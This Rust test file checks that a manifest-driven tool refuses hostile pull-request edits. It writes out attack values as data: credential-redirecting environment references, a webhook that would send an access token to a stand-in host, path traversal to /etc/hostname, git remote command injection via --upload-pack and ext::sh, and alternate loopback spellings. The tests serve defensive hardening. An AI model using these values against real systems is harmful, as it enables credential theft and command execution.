//! What the author of a hostile pull request can write into the manifests: each line here tries to take a
//! credential, to leave the project's folder, or to write where nobody looks. None is told a secret, none makes a
//! request, and every one is refused with its place. Other hosts are in `hosts`.

use std::net::TcpListener;

use crate::project::Project;

/// A line of a file that is replaced by another one, and the exit code of what then comes.
struct Attack {
    what: &'static str,
    file: &'static str,
    line: &'static str,
    instead: String,
    code: i32,
}

fn attack(
    what: &'static str,
    (file, line): (&'static str, &'static str),
    instead: impl Into<String>,
    code: i32,
) -> Attack {
    Attack {
        what,
        file,
        line,
        instead: instead.into(),
        code,
    }
}

const PAT: (&str, &str) = (
    "connection.yaml",
    "    personalAccessToken: { env: AZURE_DEVOPS_EXT_PAT }",
);
const KEY: (&str, &str) = ("connection.yaml", "    apiKey: { env: TESTWORTHY_API_KEY }");
const ZONE: (&str, &str) = ("connection.yaml", "    timeZone: America/Chicago");
const STATE: (&str, &str) = ("accord.yaml", "  state: { sqlite: .accord/state.db }");
const ORGANIZATION: (&str, &str) = ("connection.yaml", "127.0.0.1:4010/contoso");

fn secrets() -> Vec<Attack> {
    vec![
        attack(
            "another variable of the runner",
            PAT,
            "    personalAccessToken: { env: GITHUB_TOKEN }",
            4,
        ),
        attack(
            "a variable of the machine",
            PAT,
            "    personalAccessToken: { env: PATH }",
            4,
        ),
        attack(
            "the token of the other system",
            KEY,
            "    apiKey: { env: AZURE_DEVOPS_EXT_PAT }",
            4,
        ),
        attack(
            "the project's key as the token of the other system",
            PAT,
            "    personalAccessToken: { env: TESTWORTHY_PROJECT_KEY }",
            4,
        ),
        attack(
            "the token of reports",
            KEY,
            "    apiKey: { env: ACCORD_GITHUB_TOKEN }",
            4,
        ),
        attack(
            "the address of the database",
            KEY,
            "    apiKey: { env: ACCORD_DATABASE_URL }",
            4,
        ),
        attack(
            "the token as the secret of a webhook at a stranger's",
            PAT,
            "    personalAccessToken: { env: AZURE_DEVOPS_EXT_PAT }\n  webhook: { url: \"https://stranger.example/take\", secret: { env: AZURE_DEVOPS_EXT_PAT } }",
            4,
        ),
        attack(
            "a file outside the folder of secrets",
            PAT,
            "    personalAccessToken: { file: ../token }",
            4,
        ),
        attack(
            "a file of the machine",
            PAT,
            "    personalAccessToken: { file: /etc/hostname }",
            4,
        ),
        attack(
            "a literal, which would be in the history",
            PAT,
            "    personalAccessToken: abcdefghijklmnopqrstuvwxyz",
            4,
        ),
        attack(
            "a tenant that is a way to another place",
            PAT,
            "    entra: { tenantId: \"../../stranger.example/x\", clientId: 11111111-2222-3333-4444-555555555555, credential: githubActions }",
            4,
        ),
    ]
}

fn places() -> Vec<Attack> {
    let mut all = Vec::new();
    for template in [
        "https://stranger.example/add/{suite_id}",
        "//stranger.example/add/{suite_id}",
        "/\\\\stranger.example/{suite_id}",
        "../../outside/{suite_id}",
        "add_case/{suite_id}?key=1",
    ] {
        let instead =
            format!("    timeZone: America/Chicago\n    operations: {{ addCase: \"{template}\" }}");
        all.push(attack("a call at another place", ZONE, instead, 4));
    }
    for state in [
        "{ sqlite: ../state.db }",
        "{ sqlite: /tmp/state.db }",
        "{ sqlite: .accord/../../state.db }",
        "{ git: { remote: \"https://stranger.example/x.git\", ref: refs/accord/state } }",
        "{ git: { remote: \"--upload-pack=touch${IFS}x\", ref: refs/accord/state } }",
        "{ git: { remote: \"ext::sh -c touch% x\", ref: refs/accord/state } }",
        "{ git: { remote: origin, ref: \"refs/accord/../heads/main\" } }",
        "{ postgres: { url: \"postgres://stranger.example/x\" } }",
        "{ postgres: { url: { env: PATH } } }",
        // The token of Azure DevOps as the address of a database.
        "{ postgres: { url: { env: AZURE_DEVOPS_EXT_PAT } } }",
    ] {
        let instead = format!("  state: {state}");
        all.push(attack("a state at another place", STATE, instead, 4));
    }
    all.push(attack(
        "a state over the branch that is reviewed",
        STATE,
        "  state: { git: { remote: origin, ref: refs/heads/main } }",
        5,
    ));
    all.push(attack(
        "manifests outside the project",
        STATE,
        "  state: { sqlite: .accord/state.db }\n  manifests: [\"../..\"]",
        4,
    ));
    all
}

/// Other ways of writing the loopback address, behind which a stranger may listen too.
fn addresses(port: u16) -> Vec<Attack> {
    let host = |host: String| {
        let instead = format!("{host}:{port}/contoso");
        // Plain http is for loopback, and these forms are not taken for it.
        let code = if host.starts_with('[') || host.ends_with('.') {
            4
        } else {
            5
        };
        attack(
            "another spelling of an address",
            ORGANIZATION,
            instead,
            code,
        )
    };
    let spellings = [
        "2130706434",
        "0x7f000002",
        "0177.0.0.2",
        "127.2",
        "[::ffff:127.0.0.2]",
        "localhost",
        "localhost.",
        "LOCALHOST",
    ];
    spellings.map(str::to_owned).map(host).into()
}

fn hostile(project: &Project, one: &Attack) {
    let before = project.read(one.file);
    let sandbox = project.sandbox.address.to_string();
    let line = one.line.replace("127.0.0.1:4010", &sandbox);
    project.replace(one.file, &line, &one.instead);
    let mut commands = vec![&["plan"] as &[&str], &["apply", "--yes"]];
    if one.code == 4 {
        // It tells of each system apart, so of the sound one it asks.
        commands.push(&["doctor"]);
    }
    for command in commands {
        let outcome = project.run(command);
        assert_eq!(
            outcome.code,
            Some(one.code),
            "{}: {command:?} with {}\n{}{}",
            one.what,
            one.instead,
            outcome.stdout,
            outcome.stderr
        );
        if one.code == 4 {
            // The file and the line of what was written there.
            let place = format!("{}:", one.file);
            assert!(outcome.stderr.contains(&place), "{}", outcome.stderr);
        }
    }
    assert_eq!(project.requests(), 0, "{}: {}", one.what, one.instead);
    project.write(one.file, &before);
}

#[test]
fn no_manifest_takes_a_secret_that_is_not_its_own() {
    let project = Project::web_shop();
    for one in secrets() {
        hostile(&project, &one);
    }
    // The project itself is sound.
    project.run(&["plan"]).expect(0);
}

#[test]
fn no_manifest_leaves_its_place() {
    let project = Project::web_shop();
    let outside = project.path().parent().expect("a folder").join("state.db");
    for one in places() {
        hostile(&project, &one);
    }
    assert!(!outside.exists() && !project.path().join("x").exists());
    project.run(&["plan"]).expect(0);
}

#[test]
fn no_other_spelling_of_an_address_is_called() {
    let project = Project::web_shop();
    // Behind 127.0.0.2, where nobody said that a credential may go.
    let stranger = TcpListener::bind("127.0.0.1:0").expect("a free port");
    let port = stranger.local_addr().expect("an address").port();
    stranger
        .set_nonblocking(true)
        .expect("a look without waiting");
    for one in addresses(port) {
        hostile(&project, &one);
    }
    let called = stranger.accept();
    assert!(called.is_err(), "nobody called: {called:?}");
}

/// Each variable serves one key only, and each key is the other system's.
#[test]
fn two_keys_do_not_swap_their_variables() {
    let mut project = Project::web_shop();
    let before = project.read("connection.yaml");
    let swapped = before
        .replace("AZURE_DEVOPS_EXT_PAT", "the other")
        .replace("TESTWORTHY_PROJECT_KEY", "AZURE_DEVOPS_EXT_PAT")
        .replace("the other", "TESTWORTHY_PROJECT_KEY");
    project.write("connection.yaml", &swapped);
    for command in [&["plan"] as &[&str], &["apply", "--yes"]] {
        let told = project.run(command).expect(4).stderr;
        for sentence in [
            "`AZURE_DEVOPS_EXT_PAT` does not belong to `testworthy.projectKey`",
            "`TESTWORTHY_PROJECT_KEY` does not belong to `azureDevOps.personalAccessToken`",
        ] {
            assert!(told.contains(sentence), "{told}");
        }
    }
    assert_eq!(project.requests(), 0);
    // Unless the operator knows better.
    let allowed = "AZURE_DEVOPS_EXT_PAT,TESTWORTHY_PROJECT_KEY";
    project.set("ACCORD_ALLOW_ENV", allowed);
    project.run(&["validate"]).expect(0);
}

/// A secret in a file: only below the folder that the operator names, and no way leads out of it.
#[cfg(unix)]
#[test]
fn a_link_out_of_the_folder_of_secrets_is_not_followed() {
    let mut project = Project::web_shop();
    let outside = project.path().join("outside");
    let secrets = project.path().join("secrets");
    std::fs::create_dir_all(&secrets).expect("a folder");
    std::fs::write(&outside, "another-secret-of-the-machine\n").expect("a file");
    std::os::unix::fs::symlink(&outside, secrets.join("token")).expect("a link");
    project.set("ACCORD_SECRETS_DIR", secrets.to_str().expect("UTF-8"));
    project.replace(
        "connection.yaml",
        "{ env: AZURE_DEVOPS_EXT_PAT }",
        "{ file: token }",
    );
    let outcome = project.run(&["plan"]).expect(8);
    assert!(
        !outcome.stderr.contains("another-secret"),
        "{}",
        outcome.stderr
    );
    assert_eq!(project.requests(), 0);
}
